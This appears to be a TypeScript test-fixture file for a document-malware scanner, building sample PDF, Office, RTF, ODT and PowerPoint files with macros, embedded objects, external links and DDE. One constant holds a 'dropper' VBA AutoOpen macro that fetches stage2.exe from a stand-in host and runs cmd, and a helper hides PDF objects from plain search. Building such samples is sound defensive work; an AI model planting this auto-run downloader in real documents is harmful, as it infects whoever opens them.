import { deflateSync } from 'node:zlib'
import { makeCompoundFile, type SampleTree } from '../formats/compound-sample.ts'
import { makeZip, type SampleEntry } from '../formats/zip-sample.ts'

export const program = Buffer.from('MZ a program')

/** A PDF of the given objects: texts, or streams with what their dictionary says. */
export function makePdf(
  objects: readonly (string | { dictionary: string; stream: Buffer | string })[],
  trailer = '/Root 1 0 R',
): Buffer {
  const parts = objects.map((object, index) => {
    if (typeof object === 'string') return Buffer.from(`${index + 1} 0 obj\n${object}\nendobj\n`)
    const stream = Buffer.from(object.stream)
    return Buffer.concat([
      Buffer.from(
        `${index + 1} 0 obj\n<< ${object.dictionary} /Length ${stream.length} >>\nstream\n`,
      ),
      stream,
      Buffer.from('\nendstream\nendobj\n'),
    ])
  })
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...parts,
    Buffer.from(`trailer\n<< ${trailer} >>\nstartxref\n0\n%%EOF\n`),
  ])
}

/** Objects packed into a stream, where a search for plain words does not find them. */
export function packedObjects(objects: Readonly<Record<number, string>>) {
  let body = ''
  const places = Object.entries(objects).map(([number, text]) => {
    const at = body.length
    body += `${text} `
    return `${number} ${at}`
  })
  const head = `${places.join(' ')} `
  return {
    dictionary: `/Type /ObjStm /N ${places.length} /First ${head.length} /Filter /FlateDecode`,
    stream: deflateSync(head + body),
  }
}

/** Packs as [MS-OVBA] specifies, without copy tokens: each character as a literal. */
export function packVba(text: string): Buffer {
  const source = Buffer.from(text, 'latin1')
  const chunks: Buffer[] = [Buffer.from([1])]
  for (let at = 0; at < source.length; at += 3_000) {
    const piece = source.subarray(at, at + 3_000)
    const body: Buffer[] = []
    for (let from = 0; from < piece.length; from += 8)
      body.push(Buffer.from([0]), piece.subarray(from, from + 8))
    const packed = Buffer.concat(body)
    const header = Buffer.alloc(2)
    header.writeUInt16LE(0xb000 | (packed.length - 1))
    chunks.push(header, packed)
  }
  return Buffer.concat(chunks)
}

function dirRecord(id: number, value: Buffer): Buffer {
  const head = Buffer.alloc(6)
  head.writeUInt16LE(id)
  head.writeUInt32LE(value.length, 2)
  return Buffer.concat([head, value])
}

/** The folder of macros: compiled rubbish, then the source of each module. */
export function macroFolder(modules: Readonly<Record<string, string>>, hasDir = true): SampleTree {
  const offset = 20
  const place = Buffer.alloc(4)
  place.writeUInt32LE(offset)
  const records = Object.keys(modules).flatMap((name) => [
    dirRecord(0x19, Buffer.from(name)),
    dirRecord(0x1a, Buffer.from(name)),
    dirRecord(0x32, Buffer.from(name, 'utf16le')),
    dirRecord(0x31, place),
  ])
  const version = Buffer.from('090004000000010000000100', 'hex')
  const dir = Buffer.concat([version, ...records])
  return {
    dir: hasDir ? packVba(dir.toString('latin1')) : Buffer.from('damaged on purpose'),
    ...Object.fromEntries(
      Object.entries(modules).map(([name, source]) => [
        name,
        Buffer.concat([Buffer.alloc(offset, 0xee), packVba(source)]),
      ]),
    ),
  }
}

export const dropper = `Attribute VB_Name = "ThisDocument"
Sub AutoOpen()
  Set http = CreateObject("MSXML2.XMLHTTP")
  http.Open "GET", "http://evil.example/stage2.exe", False
  Shell "cmd /c start payload.exe"
End Sub
`
export const harmless = `Attribute VB_Name = "Module1"
Sub Total()
  Range("A1").Value = 1 + 1
End Sub
`

export const makeDoc = (more: SampleTree = {}): Buffer =>
  makeCompoundFile({ WordDocument: Buffer.alloc(5_000, 1), ...more })

const contentTypes = '<?xml version="1.0"?><Types/>'
type Files = Readonly<Record<string, SampleEntry | Buffer | string>>

export const makeDocx = (files: Files = {}): Buffer =>
  makeZip({ '[Content_Types].xml': contentTypes, 'word/document.xml': '<w:document/>', ...files })

export const makeXlsx = (files: Files = {}): Buffer =>
  makeZip({ '[Content_Types].xml': contentTypes, 'xl/workbook.xml': '<workbook/>', ...files })

export const relationships = (...list: readonly [type: string, target: string][]): string =>
  `<Relationships>${list
    .map(
      ([type, target], index) =>
        `<Relationship Id="r${index}" Type="http://schemas.example/relationships/${type}" Target="${target}" TargetMode="External"/>`,
    )
    .join('')}</Relationships>`

/** A file that was dropped into a document. */
export function packageOf(name: string, content: Buffer): Buffer {
  const number = (value: number) => {
    const bytes = Buffer.alloc(4)
    bytes.writeUInt32LE(value)
    return bytes
  }
  const text = Buffer.from(`${name}\0`)
  return Buffer.concat([
    Buffer.from([2, 0]),
    text,
    Buffer.from(`C:\\${name}\0`),
    number(0x30000),
    number(text.length),
    text,
    number(content.length),
    content,
  ])
}

export function nativeStream(name: string, content: Buffer): Buffer {
  const body = packageOf(name, content)
  const size = Buffer.alloc(4)
  size.writeUInt32LE(body.length)
  return Buffer.concat([size, body])
}

/** An OLE 1.0 object, as RTF files contain it in hex. */
export function rtfObject(className: string, content: Buffer, between = ''): string {
  const name = Buffer.from(`${className}\0`)
  const head = Buffer.alloc(12)
  head.writeUInt32LE(0x501)
  head.writeUInt32LE(2, 4)
  head.writeUInt32LE(name.length, 8)
  const size = Buffer.alloc(12)
  size.writeUInt32LE(content.length, 8)
  const hex = Buffer.concat([head, name, size, content]).toString('hex')
  return `{\\object\\objemb{\\*\\objdata ${hex.slice(0, 10)}${between}${hex.slice(10)}}}`
}

export const makeRtf = (...parts: readonly string[]): Buffer =>
  Buffer.from(`{\\rtf1\\ansi ${parts.join('\n')} Hello}`)

/** A document of LibreOffice. */
export const makeOdt = (files: Files = {}): Buffer =>
  makeZip({
    mimetype: 'application/vnd.oasis.opendocument.text',
    'content.xml': '<office:document-content/>',
    ...files,
  })

/** Slides with a packed storage in them, as macros and objects are kept. */
export function makePpt(storage: Buffer, isEncrypted = false): Buffer {
  const packed = deflateSync(storage)
  const record = Buffer.alloc(12)
  record.writeUInt16LE(1 << 4, 0)
  record.writeUInt16LE(0x1011, 2)
  record.writeUInt32LE(packed.length + 4, 4)
  record.writeUInt32LE(storage.length, 8)
  const before = Buffer.alloc(16)
  before.writeUInt16LE(1000, 2)
  before.writeUInt32LE(8, 4)
  const user = Buffer.alloc(64)
  user.writeUInt32LE(isEncrypted ? 0xf3d1c4df : 0xe391c05f, 12)
  return makeCompoundFile({
    'PowerPoint Document': Buffer.concat([before, record, packed]),
    'Current User': user,
  })
}

/** A slide with a shape that does something when it is clicked, or under the mouse. */
export function pptAction(action: number, name: string, instance: 0 | 1 = 0): Buffer {
  const record = (type: number, version: number, body: Buffer, of = 0) => {
    const head = Buffer.alloc(8)
    head.writeUInt16LE((of << 4) | version)
    head.writeUInt16LE(type, 2)
    head.writeUInt32LE(body.length, 4)
    return Buffer.concat([head, body])
  }
  const atom = Buffer.alloc(16)
  atom[8] = action
  const text = name === '' ? [] : [record(0x0fba, 0, Buffer.from(name, 'utf16le'), 2)]
  const info = Buffer.concat([record(0x0ff3, 0, atom), ...text])
  const shape = record(0xf004, 15, record(0xf011, 15, record(0x0ff2, 15, info, instance)))
  const slide = record(0x03ee, 15, record(0x040c, 15, record(0xf002, 15, shape)))
  return makeCompoundFile({
    'PowerPoint Document': Buffer.concat([record(1000, 0, Buffer.alloc(8)), slide]),
    'Current User': Buffer.alloc(64),
  })
}

/** The link of a binary workbook to another program. */
export function binaryDde(service: string, topic: string): Buffer {
  const wide = (text: string) => {
    const length = Buffer.alloc(4)
    length.writeUInt32LE(text.length)
    return Buffer.concat([length, Buffer.from(text, 'utf16le')])
  }
  const body = Buffer.concat([Buffer.from([1, 0]), wide(service), wide(topic)])
  return Buffer.concat([Buffer.from([0xe8, 0x02, body.length]), body])
}
